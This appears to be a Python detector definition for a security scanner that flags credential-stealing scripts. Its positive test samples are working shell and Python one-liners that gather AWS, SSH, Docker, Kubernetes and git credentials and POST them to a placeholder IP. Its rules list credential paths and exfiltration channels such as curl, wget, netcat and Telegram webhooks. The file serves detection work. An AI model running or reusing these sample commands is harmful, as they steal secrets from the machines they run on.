"""CON-011: a script or program that gathers the credentials of several tools and sends them away."""

from __future__ import annotations

from periderm.engines.content.judging import Detector, program
from periderm.model.detector import DetectorSpec, Example
from periderm.model.severity import Maturity, Severity
from periderm.model.text import Text

DETECTOR = Detector(
    spec=DetectorSpec(
        id="CON-011",
        title=Text("Find a stealer of credentials", "发现凭据窃取程序"),
        message=Text("Find a stealer of credentials: {object}", "发现凭据窃取程序：{object}"),
        severity=Severity.HIGH,
        maturity=Maturity.INCUBATING,
        remediation=Text(
            "Take it away, and change every credential that lay where it ran: keys of clouds, registries, SSH, clusters.",
            "移除该文件，并更换其运行环境中的所有凭据：云、镜像仓库、SSH 与集群的密钥。",
        ),
        techniques=("T1552.001", "T1005", "T1041"),
        fires=(
            Example(
                b"#!/bin/sh\nfor f in ~/.aws/credentials ~/.ssh/id_rsa ~/.docker/config.json ~/.kube/config; do cat $f; done > /tmp/.o\ncurl -s -X POST --data-binary @/tmp/.o http://203.0.113.5/u\n",
                "a script",
            ),
            Example(
                b"import os, glob, requests\nfor p in ('.aws/credentials', '.ssh/id_rsa', '.git-credentials', '.npmrc'):\n    d += open(os.path.expanduser('~/' + p)).read()\nrequests.post('https://203.0.113.5/c', data=d)\n",
                "Python",
            ),
            Example(
                b"#!/bin/bash\nT=$(curl -s http://169.254.169.254/latest/meta-data/iam/security-credentials/)\nenv > /tmp/e; cat /root/.aws/credentials ~/.git-credentials >> /tmp/e\nwget --post-file=/tmp/e http://203.0.113.5/\n",
                "asks the cloud too",
            ),
            Example(
                program(
                    b"/Login Data\x00key4.db\x00logins.json\x00wallet.dat\x00.aws/credentials\x00.ssh/id_rsa\x00https://api.telegram.org/bot\x00"
                ),
                "a program that takes browsers too",
            ),
        ),
        quiet=(
            Example(b"#!/bin/sh\ntest -f ~/.aws/credentials && aws s3 ls\ncurl -fsS https://example.com/health\n", "one tool"),
            Example(b"rules:\n- .aws/credentials\n- .ssh/id_rsa\n- .docker/config.json\n- .kube/config\n", "a list to protect"),
            Example(
                b"#!/bin/sh\ntar cf backup.tar ~/.ssh/id_rsa ~/.aws/credentials ~/.kube/config\nmv backup.tar /mnt/disk/\n",
                "a backup that stays",
            ),
            Example(program(b".aws/credentials\x00.docker/config.json\x00https://\x00"), "a tool for clouds"),
        ),
    ),
    quick=(
        (
            rb"\.aws/credentials|id_(rsa|ed25519|ecdsa|dsa)|\.docker/config|\.kube/config|\.git-credentials|\.netrc|\.npmrc|\.pypirc|default_credentials|/gcloud|\.azure/|/etc/shadow|_history|tfvars|security-credentials",
            rb"-X\s*POST|--data|\s-[dFT]\s|--upload-file|--form|--post-(file|data)|--body-file|requests\.(post|put)|urlopen|HTTPS?Connection|axios\.post|fetch\s*\(|\.request\s*\(|\|\s*(nc|ncat|netcat)\s|api\.telegram\.org|/api/webhooks",
            rb"\.ssh/|id_(rsa|ed25519|ecdsa|dsa)|\.aws/|169\.254\.169\.254|default_credentials|/gcloud|\.azure/|wallet\.dat|Login Data|\.kube/config|\.git-credentials",
        ),
    ),
    source=r"""
    strings:
        $s1 = ".aws/credentials"
        $s2 = /\.ssh\/(id_(rsa|ed25519|ecdsa|dsa)|\*)|\bid_rsa\b/
        $s3 = ".docker/config.json"
        $s4 = ".kube/config"
        $s5 = /\.git-credentials|\.netrc/
        $s6 = /\.npmrc|\.pypirc/
        $s7 = /application_default_credentials\.json|\.config\/gcloud/
        $s8 = /\.azure\/(accessTokens|azureProfile|msal_token)/
        $s9 = "/etc/shadow"
        $s10 = /169\.254\.169\.254\/latest\/(meta-data\/iam|api\/token)|security-credentials/
        $s11 = /\.(bash|zsh)_history|\.mysql_history|\.psql_history/
        $s12 = /terraform\.tfvars|credentials\.tfrc/
        $b1 = "Login Data"
        $b2 = "key4.db"
        $b3 = "logins.json"
        $b4 = "wallet.dat"
        $send1 = /curl\s[^\n]{0,200}(-X\s*POST|--data|-d\s|-F\s|-T\s|--upload-file|--form)/
        $send2 = /wget\s[^\n]{0,200}--(post-file|post-data|body-file)/
        $send3 = /requests\.(post|put)\s*\(|urlopen\s*\([^\n]{0,80}data\s*=|http\.client\.HTTPS?Connection|axios\.post\s*\(|fetch\s*\([^\n]{0,160}method\s*:\s*['"](POST|PUT)|https?\.request\s*\(\s*\{?[^\n]{0,160}POST/
        $send4 = /\|\s*(nc|ncat|netcat)\s+\S{3,60}\s+\d{2,5}/
        $send5 = "api.telegram.org/bot"
        $send6 = /discord(app)?\.com\/api\/webhooks/
        $elf = { 7F 45 4C 46 }
    condition:
        (filesize < 512KB and not $elf at 0 and 3 of ($s*) and any of ($send*))
        or ($elf at 0 and filesize < 32MB and 2 of ($b*) and 2 of ($s*) and any of ($send5, $send6))
""",
)
